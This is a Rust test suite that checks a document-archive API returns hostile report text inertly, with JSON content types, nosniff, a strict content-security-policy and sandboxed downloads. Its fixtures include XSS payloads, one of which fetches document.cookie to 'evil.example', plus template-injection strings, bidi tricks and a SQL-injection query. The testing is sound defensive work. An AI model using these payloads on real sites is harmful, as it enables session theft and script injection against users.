//! Reports that want to be code come back as the text that they are.

use crate::{
    record::{Place, now, open, settle, sqlite},
    support::start,
};
use dateline_model::{Claim, Document, DocumentId, Evidence, Span, Text};
use dateline_store::Collected;

const HOSTILE: &[&str] = &[
    "<script>fetch('https://evil.example/?'+document.cookie)</script> shelled the village",
    "<img src=x onerror=alert(1)> was shelled",
    "</textarea><svg/onload=alert(1)> 'attack' \"attack\" `attack`",
    "<a href=\"javascript:alert(1)\">javascript:alert(1)</a>",
    "\u{202e}elppA\u{202c} \u{2066}attacked\u{2069} \u{200f}the village",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "\u{0}\u{1}\u{7f}\u{fffe} control",
];

fn store(place: &Place, texts: &[String]) {
    let mut record = open(place);
    for (n, text) in texts.iter().enumerate() {
        let (mut document, mut claims): (Document, Vec<Claim>) =
            crate::record::document(n as u64, crate::record::WORLD);
        document.id = DocumentId::new(format!("h{n}/<script>")).unwrap();
        document.title = Some(text.chars().take(200).collect());
        document.source = Some("<script>alert(2)</script>".to_owned());
        document.url = Some(format!("javascript:alert({n})"));
        document.text = Text::new(text.clone());
        for claim in &mut claims {
            claim.document_id = document.id.clone();
            claim.evidence = vec![Evidence { span: Span::new(0, document.text.len()), text: text.clone() }];
            claim.places[0].name = Some("<b onclick=alert(3)>Place</b>".to_owned());
        }
        let collected = Collected { document: &document, bytes: text.as_bytes(), at: now(n as i64), how: "test" };
        record.add(collected, &claims, "test", now(n as i64)).unwrap();
    }
    settle(&mut record, 100);
}

#[test]
fn nothing_of_a_report_is_sent_as_something_that_runs() {
    let place = sqlite();
    let mut texts: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    texts.push(format!("{} shelled", "x".repeat(1 << 20)));
    store(&place, &texts);
    let server = start(&place.target);
    for (n, text) in texts.iter().enumerate() {
        let id = format!("h{n}%2F%3Cscript%3E");
        let answer = server.get(&format!("/api/v1/documents/{id}"));
        assert_eq!(answer.good()["document"]["text"], **text, "it comes back as it is");
        for path in [format!("documents/{id}/claims"), format!("claims/{id}/c1"), "events".into(), "places".into()] {
            let answer = server.get(&format!("/api/v1/{path}"));
            answer.good();
            assert_eq!(answer.header("content-type"), "application/json", "{path}");
            assert_eq!(answer.header("x-content-type-options"), "nosniff", "{path}");
            let policy = answer.header("content-security-policy");
            assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        }
        let original = server.get(&format!("/api/v1/documents/{id}/original"));
        assert_eq!(original.body, text.as_bytes());
        assert_eq!(original.header("content-type"), "application/octet-stream");
        assert!(original.header("content-disposition").starts_with("attachment; filename=\"h"));
        assert!(original.header("content-security-policy").contains("sandbox"));
    }
}

#[test]
fn searching_for_code_finds_text() {
    let place = sqlite();
    store(&place, &HOSTILE.iter().map(|text| (*text).to_owned()).collect::<Vec<_>>());
    let server = start(&place.target);
    for query in ["%3Cscript%3E", "onerror", "%22%20OR%201%3D1%20--", "NEAR(a%20b)", "javascript%3Aalert", "a*", "%27"]
    {
        let answer = server.get(&format!("/api/v1/search?q={query}"));
        assert!([200, 400].contains(&answer.status), "{query}: {answer:?}");
        assert!(answer.header("content-type").contains("json"));
        let listed = server.get(&format!("/api/v1/events?text={query}&actor={query}&place={query}"));
        assert!([200, 400].contains(&listed.status), "{query}: {listed:?}");
    }
    let found = server.api("/search?q=onerror");
    let pieces = found["documents"][0]["snippet"].as_array().unwrap().iter();
    let whole: String = pieces.map(|piece| piece["text"].as_str().unwrap()).collect();
    assert_eq!(whole, HOSTILE[1]);
}
